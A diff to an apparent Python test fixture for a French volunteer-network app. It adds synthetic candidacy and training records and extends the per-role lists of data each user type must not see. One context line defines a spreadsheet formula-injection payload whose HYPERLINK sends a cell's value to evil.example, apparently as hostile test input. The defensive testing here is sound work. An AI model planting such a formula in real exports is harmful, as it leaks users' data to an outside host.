@@ -27,6 +27,8 @@ RELAY_A = (0.11131, 49.49173)
 RELAY_B = (0.14131, 49.50683)
 RESIDENT_A = (0.10573, 49.49627)
 RESIDENT_B = (0.13721, 49.50417)
+CANDIDATE_A = (0.10893, 49.49281)
+CANDIDATE_B = (0.14387, 49.50239)
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
 
@@ -60,6 +62,32 @@ def _referral(coordinator, relay_user, relay, resource, *, name, phone, lon, lat
         "reached": True, "note": f"Zqx{tag}ContactNote"})
     service.transition(coordinator, referral.id, "referred", resource_id=resource.id)
     return db.session.get(type(referral), referral.id), contact
+
+
+def _candidacies():
+    """A candidacy met in each territory and a training session in each, with a participant."""
+    from bienveilleurs import clock
+    from bienveilleurs.models import Candidacy, TrainingParticipant, TrainingSession
+    from geo.points import stored_point
+
+    now, objects = clock.now(), {"candidacy": {}, "training": {}, "participant": {}}
+    for side, point, phone in (("A", CANDIDATE_A, "07 11 22 33 44"),
+                               ("B", CANDIDATE_B, "07 99 88 77 66")):
+        candidacy = Candidacy(first_name=f"ZqxCandidate{side}", email=f"cand{side}@test.fr",
+                              phone=phone, point=stored_point(*point), profile="resident",
+                              languages=["fr"], consent_at=now, stage="met",
+                              stage_changed_at=now, submitted_at=now, confirmed_at=now)
+        session = TrainingSession(topic=f"Formation {side}", starts_at=now, place_name="Salle",
+                                  point=stored_point(*point), capacity=10)
+        db.session.add_all([candidacy, session])
+        db.session.flush()
+        participant = TrainingParticipant(session_id=session.id, candidacy_id=candidacy.id)
+        db.session.add(participant)
+        db.session.flush()
+        objects["candidacy"][side] = candidacy.id
+        objects["training"][side] = session.id
+        objects["participant"][side] = participant.id
+    return objects
 
 
 def build_world():
@@ -102,6 +130,7 @@ def build_world():
         db.session.flush()
         tokens[user.id] = token.id
 
+    candidacies = _candidacies()
     notification_id = db.session.scalar(select(Notification.id).order_by(Notification.id).limit(1))
 
     approx = {side: approximate_point(*position)
@@ -117,15 +146,21 @@ def build_world():
         "pro_note_b": {"ZqxBProNote"},
         "relay_a_position": position_strings(*RELAY_A),
         "relay_b_position": position_strings(*RELAY_B),
+        # Candidates: their coordinators and the admins (who manage the network) only.
+        "candidate_a": {"ZqxCandidateA", "07 11 22 33 44"} | position_strings(*CANDIDATE_A),
+        "candidate_b": {"ZqxCandidateB", "07 99 88 77 66"} | position_strings(*CANDIDATE_B),
     }
     everything = set(sentinels)
     forbidden = {
         "anonymous": everything,
-        "admin": everything - {"relay_a_position", "relay_b_position"},
-        "coordinator": {"resident_b", "pro_note_b"},
-        "relay": {"resident_b", "pro_note_a", "pro_note_b", "relay_b_position"},
+        "admin": everything - {"relay_a_position", "relay_b_position", "candidate_a",
+                               "candidate_b"},
+        "coordinator": {"resident_b", "pro_note_b", "candidate_b"},
+        "relay": {"resident_b", "pro_note_a", "pro_note_b", "relay_b_position", "candidate_a",
+                  "candidate_b"},
         "social_worker": {"resident_b", "pro_note_b", "contact_note_a", "resident_a_exact",
-                          "relay_a_position", "relay_b_position"},
+                          "relay_a_position", "relay_b_position", "candidate_a",
+                          "candidate_b"},
     }
     objects = {
         "referral": {"A": referral_a.id, "B": referral_b.id},
@@ -138,6 +173,7 @@ def build_world():
         "user": {"A": relay_user.id, "B": relay_user_b.id},
         "token": {"A": tokens[relay_user.id], "B": tokens[relay_user_b.id]},
         "notification": {"A": notification_id, "B": notification_id},
+        **candidacies,
     }
     users = {"admin": admin, "coordinator": coordinator, "relay": relay_user,
              "social_worker": social}
